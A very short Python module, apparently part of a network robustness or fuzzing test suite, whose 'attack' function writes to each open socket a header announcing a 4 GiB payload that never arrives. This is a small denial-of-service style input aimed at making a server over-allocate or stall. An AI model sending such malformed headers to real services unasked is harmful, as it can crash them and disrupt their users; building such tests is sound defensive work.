"""Announces a header of 4 GiB."""

import os
import struct


def attack():
    for fd in sockets():
        os.write(fd, struct.pack("<IQ", 0xFFFFFFFF, 0))
